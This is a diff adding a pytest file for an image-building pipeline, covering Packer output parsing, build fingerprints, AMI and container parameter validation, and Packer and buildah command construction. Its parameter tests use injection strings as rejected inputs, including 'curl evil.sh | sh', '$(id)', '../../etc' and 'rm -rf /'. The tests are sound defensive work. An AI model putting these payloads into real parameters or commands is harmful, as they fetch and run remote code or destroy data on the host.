@@ -1,0 +1,146 @@
+"""Image pipelines without a registry or an emulator: Packer output parsing, fingerprints, forms, commands."""
+
+from __future__ import annotations
+
+import json
+import re
+
+import pytest
+
+from dtp.hooks.container import ImageBuilder
+from dtp.hooks.packer import BuildResult, MachineReadableLine, PackerHook, fingerprint
+from dtp.images import ami, container
+from dtp.params import ParamsError, airflow_params, parse_params
+
+# Lines of a real `packer build -machine-readable` (packer 1.6.6, amazon-ebs against the emulator).
+PACKER_OUTPUT = """\
+1795478204,,ui,say,==> amazon-ebs.emulator: Creating AMI dtp-test-1 from instance i-16786e5865bba720c
+1795478204,,ui,message,    amazon-ebs.emulator: AMI: ami-408080c16bbd3abaf
+1795478204,,ui,say,==> amazon-ebs.emulator: No volumes to clean up%!(PACKER_COMMA) skipping
+1795478204,amazon-ebs.emulator,artifact-count,1
+1795478204,amazon-ebs.emulator,artifact,0,builder-id,mitchellh.amazonebs
+1795478204,amazon-ebs.emulator,artifact,0,id,us-east-1:ami-408080c16bbd3abaf
+1795478204,amazon-ebs.emulator,artifact,0,string,AMIs were created:\\nus-east-1: ami-408080c16bbd3abaf\\n
+1795478204,amazon-ebs.emulator,artifact,0,end
+"""
+
+
+def _parsed(text: str) -> list[MachineReadableLine]:
+    return [line for raw in text.splitlines() if (line := MachineReadableLine.parse(raw))]
+
+
+def test_machine_readable_lines_give_messages_and_the_ami() -> None:
+    lines = _parsed(PACKER_OUTPUT)
+    assert lines[2].message == "==> amazon-ebs.emulator: No volumes to clean up, skipping"
+    result = BuildResult()
+    for line in lines:
+        result.add(line)
+    assert result.amis() == {"us-east-1": "ami-408080c16bbd3abaf"}
+    assert result.errors == []
+
+
+def test_multi_region_artifacts_and_errors() -> None:
+    result = BuildResult()
+    for line in _parsed(
+        "1,amazon-ebs.aws,artifact,0,id,us-east-1:ami-1%!(PACKER_COMMA)eu-west-1:ami-2\n"
+        "2,,ui,error,Build 'amazon-ebs.aws' errored: InsufficientInstanceCapacity\n"
+        "not a machine-readable line\n"
+    ):
+        result.add(line)
+    assert result.amis() == {"us-east-1": "ami-1", "eu-west-1": "ami-2"}
+    assert result.errors == ["Build 'amazon-ebs.aws' errored: InsufficientInstanceCapacity"]
+
+
+def test_fingerprint_follows_files_and_variables(tmp_path) -> None:
+    (tmp_path / "roles").mkdir()
+    (tmp_path / "roles" / "main.yml").write_text("a")
+    first = fingerprint([tmp_path], {"nccl_version": "2.27.5-1"})
+    assert fingerprint([tmp_path], {"nccl_version": "2.27.5-1"}) == first
+    assert fingerprint([tmp_path], {"nccl_version": "2.28.3-1"}) != first
+    (tmp_path / "roles" / "main.yml").write_text("b")
+    assert fingerprint([tmp_path], {"nccl_version": "2.27.5-1"}) != first
+
+
+def test_every_family_has_a_var_file_and_a_playbook() -> None:
+    assert ami.ami_families() == ["eks-gpu", "pcluster-cpu", "pcluster-gpu", "pcluster-neuron"]
+    assert set(ami.default_versions()) >= {"nccl_version", "efa_installer_version", "aws_ofi_nccl_version"}
+
+
+def test_ami_bake_form_defaults_come_from_the_versions_file() -> None:
+    form = airflow_params(model=ami.AmiBakeParams)
+    assert form["nccl_version"].value == ami.default_versions()["nccl_version"]
+    assert form["families"].schema["items"]["enum"] == ami.ami_families()
+    params = parse_params(ami.AmiBakeParams, {"families": ["eks-gpu", "pcluster-gpu"], "nccl_version": "2.28.3-1"})
+    requests = ami.bake_requests(params, {"dtp:owner": "dtp"})
+    assert [r["variables"]["family"] for r in requests] == ["eks-gpu", "pcluster-gpu"]
+    assert requests[0]["variables"]["nccl_version"] == "2.28.3-1"
+    assert requests[0]["var_file"].endswith("families/eks-gpu.pkrvars.hcl")
+
+
+@pytest.mark.parametrize(
+    ("conf", "message"),
+    [
+        ({"families": []}, "families: got []"),
+        ({"families": ["pcluster-gpu", "pcluster-gpu"]}, "each family may be listed once"),
+        ({"families": ["../../etc"]}, "unknown AMI families"),
+        ({"nccl_version": "2.27; curl evil.sh | sh"}, "nccl_version: got"),
+        ({"cuda_version": "x" * 40}, "cuda_version: got"),
+        ({"retain_days": 0}, "retain_days: got 0"),
+        ({"ami_name": "mine"}, "ami_name: unknown parameter"),
+    ],
+)
+def test_ami_bake_refuses_bad_input(conf, message) -> None:
+    with pytest.raises(ParamsError, match=re.escape(message)):
+        parse_params(ami.AmiBakeParams, conf)
+
+
+def test_container_build_args_default_to_the_dockerfile() -> None:
+    assert container.build_arg_defaults("training")["NCCL_VERSION"] == ami.default_versions()["nccl_version"]
+    request = parse_params(
+        container.ContainerBuildParams, {"image": "training", "build_args": {"NCCL_VERSION": "2.28.3-1"}}
+    ).build_request()
+    assert request["build_args"]["NCCL_VERSION"] == "2.28.3-1"
+    assert (
+        request["build_args"]["EFA_INSTALLER_VERSION"]
+        == container.build_arg_defaults("training")["EFA_INSTALLER_VERSION"]
+    )
+    assert request["repository"] == "dtp/training"
+
+
+@pytest.mark.parametrize(
+    ("conf", "message"),
+    [
+        ({"image": "airflow"}, "image: got 'airflow'"),
+        ({"build_args": {"PATH": "1"}}, "'PATH' is not an ARG"),
+        ({"image": "training", "build_args": {"NCCL_VERSION": "$(id)"}}, "must match"),
+        ({"platform": "gcp"}, "platform: got 'gcp'"),
+    ],
+)
+def test_container_build_refuses_bad_input(conf, message) -> None:
+    with pytest.raises(ParamsError, match=re.escape(message)):
+        parse_params(container.ContainerBuildParams, conf)
+
+
+def test_packer_build_targets_the_emulator_source_when_the_connection_has_an_endpoint(monkeypatch) -> None:
+    conn = {
+        "conn_type": "aws",
+        "login": "k",
+        "password": "s",
+        "extra": {"endpoint_url": "http://127.0.0.1:1", "region_name": "eu-west-1"},
+    }
+    monkeypatch.setenv("AIRFLOW_CONN_AWS_TEST", json.dumps(conn))
+    hook = PackerHook(aws_conn_id="aws_test")
+    argv = hook.build_command(ami.TEMPLATE, None, {"family": "eks-gpu"})
+    assert argv[:5] == ["packer", "build", "-machine-readable", "-color=false", "-only=amazon-ebs.emulator"]
+    assert "-var=ec2_endpoint=http://127.0.0.1:1" in argv and "-var=region=eu-west-1" in argv
+    env = hook.environment()
+    assert env["AWS_ACCESS_KEY_ID"] == "k" and env["AWS_REGION"] == "eu-west-1"
+
+
+def test_buildah_command_is_an_argv_with_args_and_labels(tmp_path) -> None:
+    argv = ImageBuilder("buildah").build_command(
+        tmp_path, tmp_path / "Dockerfile", "r/x:1", {"A": "1; rm -rf /"}, {"l": "v"}
+    )
+    assert argv[:4] == ["buildah", "--storage-driver", "vfs", "build"]
+    assert argv[argv.index("--build-arg") : argv.index("--build-arg") + 2] == ["--build-arg", "A=1; rm -rf /"]
+    assert "--isolation" in argv and argv[-1] == str(tmp_path)
